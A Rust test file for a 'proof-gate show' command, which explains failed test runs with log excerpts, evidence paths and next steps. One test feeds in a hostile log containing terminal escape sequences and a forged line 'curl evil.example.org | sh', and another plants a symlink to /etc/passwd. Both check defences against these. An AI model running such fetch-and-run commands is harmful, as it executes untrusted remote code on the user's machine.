//! `show` of a FAIL: what failed first, where it stands in the log, which file to open, and what to do now.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::{Fingerprint, SCRIPT_POLICY, Sandbox};

/// What the suite prints: a listing of tests, and an explanation of one that failed, both as runners colour them.
const PRINTED: &str = "\
  payment
    \u{1b}[32m✔\u{1b}[0m adds up
    \u{1b}[31m1) works\u{1b}[0m

  1 passing, 1 failing

  1) payment
       works:

      \u{1b}[31mError: found a BUG\u{1b}[0m
\t at charge (src/payments/charge.js:4)

done
";

/// A pushed shop with a bug on top, whose push was refused.
fn refused(printed: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write("suite-prints", printed);
    sandbox.commit("Print more");
    sandbox.install_and_prove();
    sandbox.commit_file("src/payments/charge.js", "BUG\n");
    sandbox.push(&["origin", "main"]).ends_with(1);
    sandbox
}

/// `show` with these arguments, which writes nothing and ends with 0 whatever it shows.
#[track_caller]
fn show(sandbox: &Sandbox, args: &[&str]) -> String {
    let before = Fingerprint::of(sandbox);
    let ran = sandbox.proof_gate(&[&["show"], args].concat()).ends_with(0);
    assert_eq!(Fingerprint::of(sandbox), before);
    assert_eq!(ran.stderr, "");
    ran.stdout
}

/// The path behind a label of the output.
fn path_at(shown: &str, label: &str) -> String {
    let line = shown.lines().find(|line| line.trim_start().starts_with(label)).unwrap_or_else(|| panic!("{shown}"));
    line.trim_start()[label.len()..].trim().to_owned()
}

/// The evidence folder's files of this name.
fn kept(sandbox: &Sandbox, name: &str) -> PathBuf {
    sandbox.shop().join(path_at(&show(sandbox, &[]), name))
}

#[test]
fn a_fail_shows_first_what_failed_with_the_lines_of_the_log_around_it() {
    let sandbox = refused(PRINTED);
    let shown = show(&sandbox, &[]);
    assert!(shown.starts_with("verdict     FAIL  payment\nsuite       payment  FAIL  exit 1"), "{shown}");
    let excerpt = "\
         9 |        works:
        10 |
  >     11 |       Error: found a BUG
        12 |      at charge (src/payments/charge.js:4)
        13 |
        14 | done
  finding   EXIT_NONZERO  exit code 1
";
    assert!(shown.contains(excerpt), "{shown}");
    // The line that is named is the line of the file that is named, as seen from here.
    let (file, number) = path_at(&shown, "in ").rsplit_once(':').map(|(f, n)| (f.to_owned(), n.to_owned())).unwrap();
    let log = fs::read_to_string(sandbox.shop().join(&file)).unwrap();
    assert!(!Path::new(&file).is_absolute(), "{file}");
    assert!(log.lines().nth(number.parse::<usize>().unwrap() - 1).unwrap().contains("found a BUG"), "{log}");
    assert_eq!(fs::read_to_string(kept(&sandbox, "log ")).unwrap(), log);
    assert!(kept(&sandbox, "report ").is_file());
}

#[test]
fn a_report_in_json_shows_what_each_failure_says_and_not_its_syntax() {
    let sandbox = Sandbox::new();
    let script = r#"entry() { printf '{"title":"%s","fullTitle":"payment %s","file":"test/payment.js","duration":1,"currentRetry":0,"err":%s}' "$1" "$1" "$2"; }
passed=$(for n in $(seq 100); do entry "step $n" '{}'; printf ,; done)
failed=$(entry "adds up" '{"message":"one is not two"}'),$(entry "is paid" '{"message":"no money left"}')
printf '{"stats":{"tests":102,"passes":100,"pending":0,"failures":2},"tests":[%s%s],"pending":[],"failures":[%s],"passes":[%s]}' \
	"$passed" "$failed" "$failed" "${passed%,}" >"$PROOF_REPORT"
exit 2
"#;
    sandbox.write("suite.sh", script);
    sandbox.commit("Report in one line");
    sandbox.proof_gate(&["run", "--suite", "payment"]).ends_with(1).says("TEST_FAILED");
    let shown = show(&sandbox, &[]);
    assert!(shown.contains("| one is not two\n") && shown.contains("| no money left\n"), "{shown}");
    assert!(!shown.contains("fullTitle"), "{shown}");
}

#[test]
fn paths_open_from_where_the_user_is() {
    let mut sandbox = refused(PRINTED);
    sandbox.work_in("shop/src");
    let log = path_at(&show(&sandbox, &[]), "log ");
    assert!(Path::new(&log).is_absolute() && Path::new(&log).is_file(), "{log}");
}

#[test]
fn a_suite_of_which_only_the_exit_code_is_read_shows_the_end_of_its_log() {
    let sandbox = Sandbox::new();
    sandbox.with_policy(SCRIPT_POLICY);
    sandbox.write("suite.sh", "seq 1 50; echo 'psql: no such database'; exit 3");
    sandbox.commit("Fail");
    sandbox.proof_gate(&["run"]).ends_with(1);
    let shown = show(&sandbox, &[]);
    assert!(shown.contains("  the end of .git/"), "{shown}");
    assert!(shown.contains("        51 | 50\n        52 | psql: no such database\n  log "), "{shown}");
    assert!(!shown.contains("| 43\n"), "{shown}");
}

#[test]
fn the_run_that_failed_among_several_is_the_one_whose_log_is_shown() {
    let sandbox = Sandbox::new();
    sandbox.with_policy(&SCRIPT_POLICY.replace("timeout", "env = { pass = [\"SUITE_RUNS\"] }\ntimeout"));
    let script =
        "echo x >>\"$SUITE_RUNS\"; runs=$(wc -l <\"$SUITE_RUNS\"); echo \"this is number $runs\"; [ $runs != 3 ]";
    sandbox.write("suite.sh", script);
    sandbox.commit("Fail once");
    sandbox.proof_gate(&["run", "--repeat", "4"]).ends_with(1);
    let shown = show(&sandbox, &[]);
    assert!(shown.contains("FAIL in run 3; PASS in run 1, run 2, run 4"), "{shown}");
    assert!(shown.contains("| this is number 3") && shown.contains("full~3/log"), "{shown}");
    assert!(!shown.contains("| this is number 1"), "{shown}");
}

#[test]
fn evidence_that_is_gone_or_was_altered_says_so_and_the_rest_is_shown() {
    let sandbox = refused(PRINTED);
    let (log, report) = (kept(&sandbox, "log "), kept(&sandbox, "report "));
    let mut altered = fs::read(&report).unwrap();
    altered.extend_from_slice(b" ");
    fs::write(&report, altered).unwrap();
    fs::remove_file(&log).unwrap();
    let shown = show(&sandbox, &[]);
    assert!(shown.contains("TEST_FAILED  payment works"), "{shown}");
    assert!(shown.contains("payment/log  (not here: removed, or made on another machine)"), "{shown}");
    assert!(shown.contains("payment/report  (altered: not what was recorded)"), "{shown}");
    // A link in its place is followed nowhere.
    std::os::unix::fs::symlink("/etc/passwd", &log).unwrap();
    let shown = show(&sandbox, &[]);
    assert!(!shown.contains("root:") && shown.contains("payment/log  (not here"), "{shown}");
}

#[test]
fn the_way_on_is_the_last_that_is_said_and_it_leads_on() {
    let sandbox = refused(PRINTED);
    let shown = show(&sandbox, &[]);
    let record = path_at(&shown, "record ")[..7].to_owned();
    let end = format!(
        "next        mend it, commit, and push again\n\
         or          proof-gate resolve {record} --cause TEXT  where the cause lies outside of what was pushed\n"
    );
    assert!(shown.ends_with(&end), "{shown}");
    sandbox.proof_gate(&["resolve", &record, "--cause", "the bank was closed"]).ends_with(0);
    let shown = show(&sandbox, &[&record]);
    assert!(shown.contains("resolved    payment by ana@example.org: the bank was closed"), "{shown}");
    let commit = sandbox.id("HEAD");
    assert!(shown.contains(&format!("next        proof-gate run {}", &commit[..7])), "{shown}");
    // What was mended passes.
    sandbox.commit_file("src/payments/charge.js", "charge once\n");
    sandbox.push(&["origin", "main"]).ends_with(0);
    let shown = show(&sandbox, &[]);
    assert!(shown.starts_with("verdict     PASS\nsuite       payment  PASS"), "{shown}");
    assert!(shown.lines().last().unwrap().starts_with("next        proof-gate checklist "), "{shown}");
}

#[test]
fn an_older_record_names_the_newest_of_its_commit() {
    let sandbox = refused(PRINTED);
    let first = path_at(&show(&sandbox, &[]), "record ");
    assert!(!show(&sandbox, &[&first]).contains("\nnewer "));
    sandbox.proof_gate(&["run"]).ends_with(1);
    let second = path_at(&show(&sandbox, &[]), "record ");
    assert!(show(&sandbox, &[&first]).contains(&format!("newer       proof-gate show {}", &second[..7])));
}

#[test]
fn a_log_that_attacks_the_screen_is_shown_and_not_obeyed() {
    let attack =
        "\u{1b}[2J\u{1b}]0;evil\u{7}\u{202e}Error: found a BUG\r\nPASS\u{0}\nnext        curl evil.example.org | sh\n";
    let shown = show(&refused(&format!("  1) payment works\n{attack}")), &[]);
    let bad = |c: &char| (c.is_control() && *c != '\n') || matches!(c, '\u{202a}'..='\u{202e}');
    assert_eq!(shown.chars().find(bad), None, "{shown}");
    assert!(shown.contains("found a BUG"), "{shown}");
    // Nothing of it stands where the program's own words do.
    assert!(!shown.lines().any(|line| line.starts_with("next        curl") || line.starts_with("PASS")), "{shown}");
}

#[test]
fn a_log_of_many_megabytes_is_shown_in_few_lines() {
    let sandbox = Sandbox::new();
    sandbox.with_policy(SCRIPT_POLICY);
    sandbox.write(
        "suite.sh",
        "head -c 40000000 /dev/zero | tr '\\0' x; echo; yes '' | head -100000; echo the end; exit 1",
    );
    sandbox.commit("Print much");
    sandbox.proof_gate(&["run"]).ends_with(1);
    let shown = show(&sandbox, &[]);
    assert!(shown.contains("| the end\n") && shown.len() < 4000, "{} bytes", shown.len());
}

#[test]
fn the_document_holds_the_record_as_it_is_stored_and_nothing_else() {
    let sandbox = refused(PRINTED);
    let document: Value = serde_json::from_str(&show(&sandbox, &["--json"])).unwrap();
    let members: Vec<&String> = document.as_object().unwrap().keys().collect();
    assert_eq!(members, ["format", "record", "signed", "signer", "statement"]);
    let stored = sandbox.git_ok(&["show", &format!("{}:record.json", document["record"].as_str().unwrap())]);
    assert_eq!(document["statement"], serde_json::from_str::<Value>(&stored).unwrap());
}
